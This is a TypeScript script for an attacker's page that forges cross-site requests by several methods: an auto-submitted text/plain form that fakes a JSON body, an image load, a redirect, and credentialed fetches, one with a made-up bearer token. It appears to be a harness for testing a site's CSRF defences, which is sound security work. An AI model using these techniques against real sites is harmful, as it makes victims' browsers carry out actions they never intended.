// The script of the attacker's page: sends one forged request, by the method in the query.

const target = document.body.dataset.target ?? ''
const parameters = new URLSearchParams(location.search)
const url = target + (parameters.get('path') ?? '')
const result = document.getElementById('result')

const METHODS: Readonly<Record<string, () => Promise<string> | string>> = {
  form() {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = url
    form.enctype = 'text/plain'
    const body = parameters.get('body')
    if (body !== null) {
      const input = document.createElement('input')
      // A form cannot send JSON, but its text can look like JSON.
      input.name = body.slice(0, -1)
      input.value = ',"x":"="}'
      form.append(input)
    }
    document.body.append(form)
    form.submit()
    return 'A form was sent.'
  },
  image: () =>
    new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('The image was loaded.')
      image.onerror = () => resolve('The image was requested, and the response is not an image.')
      image.src = url
    }),
  link() {
    location.href = url
    return 'The link was followed.'
  },
  fetch: () => forge({ mode: 'no-cors', credentials: 'include' }),
  header: () => forge({ credentials: 'include', headers: { authorization: 'Bearer made.up.token' } }),
}

async function forge(init: RequestInit): Promise<string> {
  try {
    const response = await fetch(url, { method: 'POST', ...init })
    return `The response can be read: ${response.type === 'opaque' ? 'no' : response.status}.`
  } catch (error) {
    return `The browser did not send the request, or hides the response: ${String(error)}`
  }
}

const method = parameters.get('by') ?? ''
if (result !== null && Object.hasOwn(METHODS, method)) result.textContent = (await METHODS[method]?.()) ?? ''
